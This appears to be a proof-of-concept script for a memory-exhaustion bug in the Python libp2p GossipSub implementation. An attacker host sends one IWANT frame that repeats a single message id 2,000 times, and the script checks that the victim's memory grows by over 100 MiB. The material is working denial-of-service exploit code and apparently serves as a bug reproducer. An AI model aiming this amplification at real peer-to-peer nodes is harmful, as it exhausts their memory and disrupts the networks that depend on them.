"""A 90 KB IWANT makes a GossipSub peer build an answer of more than 100 MiB."""

import resource
import sys

import trio
from libp2p import new_host
from libp2p.peer.peerinfo import PeerInfo
from libp2p.pubsub.gossipsub import GossipSub
from libp2p.pubsub.pb import rpc_pb2
from libp2p.pubsub.pubsub import Pubsub
from libp2p.tools.anyio_service import background_trio_service
from libp2p.utils import encode_varint_prefixed
from multiaddr import Multiaddr

MESHSUB = "/meshsub/1.1.0"
TOPIC, MESSAGE_BYTES, TIMES = "topic", 64 * 1024, 2_000


def peak() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


async def main():
    listen = [Multiaddr("/ip4/127.0.0.1/tcp/0")]
    victim, attacker = new_host(), new_host()
    router = GossipSub([MESHSUB], 6, 4, 12, heartbeat_interval=10)
    pubsub = Pubsub(victim, router)
    # Listening is all the attacker does with what it gets; it need not read it.
    attacker.set_stream_handler(MESHSUB, lambda _stream: trio.sleep_forever())
    async with victim.run(listen), attacker.run(listen):
        async with background_trio_service(pubsub), background_trio_service(router):
            await pubsub.wait_until_ready()
            await pubsub.subscribe(TOPIC)
            await pubsub.publish(TOPIC, bytes(MESSAGE_BYTES))
            [message_id] = router.mcache.msgs
            await attacker.connect(PeerInfo(victim.get_id(), victim.get_addrs()))
            await pubsub.wait_for_peer(attacker.get_id())
            wanted = rpc_pb2.ControlIWant(messageIDs=[message_id] * TIMES)
            rpc = rpc_pb2.RPC(control=rpc_pb2.ControlMessage(iwant=[wanted]))
            frame = encode_varint_prefixed(rpc.SerializeToString())
            before = peak()
            stream = await attacker.new_stream(victim.get_id(), [MESHSUB])
            await stream.write(frame)
            with trio.move_on_after(20):
                while peak() - before < MESSAGE_BYTES * TIMES // 2:
                    await trio.sleep(0.1)
            grown = peak() - before
    print(f"an IWANT of {len(frame) >> 10} KiB took {grown >> 20} MiB at the peak")
    return 0 if grown > MESSAGE_BYTES * TIMES // 2 else 1


if __name__ == "__main__":
    sys.exit(trio.run(main))
